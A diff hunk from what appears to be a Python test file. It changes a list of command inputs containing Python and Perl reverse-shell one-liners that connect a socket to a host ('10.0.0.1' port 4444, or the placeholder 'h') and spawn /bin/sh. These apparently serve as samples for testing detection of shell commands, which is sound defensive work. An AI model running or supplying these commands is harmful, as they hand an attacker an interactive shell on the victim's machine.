@@ -122,8 +122,7 @@ def test_waiting_for_a_port_is_ordinary(stage: Stage, code: str) -> None:
         [
             "python3",
             "-c",
-            "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);"
-            "subprocess.call(['/bin/sh','-i'])",
+            "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')",
         ],
         ["perl", "-e", 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton("h")));exec("/bin/sh -i");'],
         ["perl", "-MIO", "-e", "$c=new IO::Socket::INET(PeerAddr,'h:1');while(<>){system $_;} connect(1)"],
